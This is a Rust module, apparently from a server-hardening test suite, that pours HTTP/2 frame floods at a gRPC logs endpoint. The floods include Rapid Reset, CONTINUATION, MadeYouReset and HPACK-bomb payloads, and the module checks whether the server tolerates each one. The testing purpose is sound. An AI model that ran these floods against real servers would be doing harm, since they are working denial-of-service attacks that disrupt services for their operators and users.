//! Floods of HTTP/2 frames that cost their sender next to nothing: what is sent, and how long the server bears it.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt as _;
use tokio::time::timeout;

use crate::frames::{self, END_HEADERS, END_STREAM, Seen, field, frame, head, kind};

const EXPORT: &str = "/opentelemetry.proto.collector.logs.v1.LogsService/Export";

/// Units that go into one write.
const AT_A_TIME: u32 = 32;

/// Units a second that may be borne: twice what the server allows to resets, the rarest of what it counts.
const RATE_BORNE_MAX: f64 = 1_024.0;

/// A write that nobody takes for so long has been stopped by the server's flow control.
const WRITE_PATIENCE: Duration = Duration::from_secs(20);

/// No flood is poured for as long.
const FOR_EVER: Duration = Duration::from_secs(3_600);

/// A flood: an opening, and a unit that comes again and again.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// For people.
    pub name: &'static str,
    // What is sent first, such as the stream or head that all units belong to.
    opening: fn() -> Vec<u8>,
    // With a number that is odd and grows, for a stream of its own.
    unit: fn(u32) -> Vec<u8>,
    // Units in one write.
    at_a_time: u32,
    // Between two writes.
    pause: Duration,
    // Units after which it has shown what it does.
    units_max: u32,
}

/// How a flood ended.
#[derive(Clone, Debug)]
pub struct Ended {
    /// Units that were sent.
    pub units: u32,
    /// From the first unit to the end of the connection, or to the last unit.
    pub took: Duration,
    /// What the server said.
    pub seen: Seen,
}

/// Every flood.
pub fn all() -> Vec<Flood> {
    let flood = |name, unit| Flood {
        name,
        opening: Vec::new,
        unit,
        at_a_time: AT_A_TIME,
        pause: Duration::ZERO,
        units_max: u32::MAX,
    };
    let on_one = |name, unit| Flood { opening: open_stream, ..flood(name, unit) };
    let singly = |flood: Flood| Flood { at_a_time: 1, pause: Duration::from_micros(200), units_max: 4_000, ..flood };
    vec![
        flood("streams reset at once (CVE-2023-44487)", rapid_reset),
        singly(flood("streams reset at once, one by one", rapid_reset)),
        Flood { opening: open_head, ..flood("heads without end (RUSTSEC-2024-0332)", |_| continuation(&[b'v'; 512])) },
        Flood { opening: open_head, ..flood("heads of empty frames", |_| frame(kind::CONTINUATION, 0, 1, &[])) },
        flood("SETTINGS", |_| frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
        flood("PING", |_| frame(kind::PING, 0, 0, b"12345678")),
        flood("PRIORITY", |stream| frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 16])),
        flood("unknown frames", |_| frame(0x42, 0, 0, &[])),
        flood("windows opened byte by byte", |_| frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        on_one("empty DATA", |_| frame(kind::DATA, 0, 1, &[])),
        on_one("DATA of one byte", |_| frame(kind::DATA, 0, 1, b"x")),
        flood("windows opened by nothing (CVE-2025-8671)", |stream| made_reset(stream, &[0, 0, 0, 0])),
        singly(flood("windows opened too far (CVE-2025-8671)", |stream| made_reset(stream, &[0x7f, 0xff, 0xff, 0xff]))),
        flood("DATA after the end (CVE-2025-8671)", |stream| {
            [whole(stream), frame(kind::DATA, 0, stream, b"x")].concat()
        }),
        flood("heads after the end (CVE-2025-8671)", |stream| [whole(stream), whole(stream)].concat()),
        flood("streams that begin and never end", |stream| {
            frame(kind::HEADERS, END_HEADERS, stream, &head("POST", EXPORT, Some("application/grpc")))
        }),
        flood("heads that unpack to a mebibyte", |stream| {
            // A header that is remembered, and named again and again by one byte.
            let mut bomb = head("POST", EXPORT, Some("application/grpc"));
            bomb.push(0x40);
            bomb.extend_from_slice(&field("x-bomb", &[b'v'; 2_000])[1..]);
            bomb.extend_from_slice(&[0xbe; 600]);
            frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &bomb)
        }),
    ]
}

fn rapid_reset(stream: u32) -> Vec<u8> {
    let head = head("POST", EXPORT, Some("application/grpc"));
    [frame(kind::HEADERS, END_HEADERS, stream, &head), frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
}

// A whole request, and a window that is wrong: the server has to reset what it works on.
fn made_reset(stream: u32, window: &[u8]) -> Vec<u8> {
    [whole(stream), frame(kind::WINDOW_UPDATE, 0, stream, window)].concat()
}

fn whole(stream: u32) -> Vec<u8> {
    frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &head("POST", EXPORT, Some("application/grpc")))
}

fn continuation(bytes: &[u8]) -> Vec<u8> {
    frame(kind::CONTINUATION, 0, 1, &field("x", bytes))
}

fn open_head() -> Vec<u8> {
    frame(kind::HEADERS, 0, 1, &head("POST", EXPORT, Some("application/grpc")))
}

fn open_stream() -> Vec<u8> {
    frame(kind::HEADERS, END_HEADERS, 1, &head("POST", EXPORT, Some("application/grpc")))
}

impl Ended {
    /// Whether the server bore what it should have ended: what comes slowly, on a busy machine, is no flood.
    pub fn was_borne(&self) -> bool {
        !self.seen.closed && f64::from(self.units) > RATE_BORNE_MAX * self.took.as_secs_f64()
    }
}

impl Flood {
    /// Pours up to `units_max` units over one connection, or until the server ends it.
    pub async fn pour(&self, address: SocketAddr, units_max: u32) -> std::io::Result<Ended> {
        let units_max = units_max.min(self.units_max);
        let (mut reader, mut writer) = frames::connect(address, &[]).await?;
        let began = Instant::now();
        let mut units = 0;
        let pour = async {
            if writer.write_all(&(self.opening)()).await.is_err() {
                return;
            }
            while units < units_max {
                let pour: Vec<u8> =
                    (units..units + self.at_a_time).flat_map(|unit| (self.unit)(unit * 2 + 1)).collect();
                match timeout(WRITE_PATIENCE, writer.write_all(&pour)).await {
                    Ok(Ok(())) => units += self.at_a_time,
                    // Closed, or stopped.
                    Ok(Err(_)) | Err(_) => return,
                }
                if !self.pause.is_zero() {
                    tokio::time::sleep(self.pause).await;
                }
            }
        };
        tokio::select! {
            // The end may still be on its way.
            () = pour => reader.drain(Duration::from_secs(2)).await,
            () = reader.drain(FOR_EVER) => {}
        }
        Ok(Ended { units, took: began.elapsed(), seen: reader.seen })
    }
}
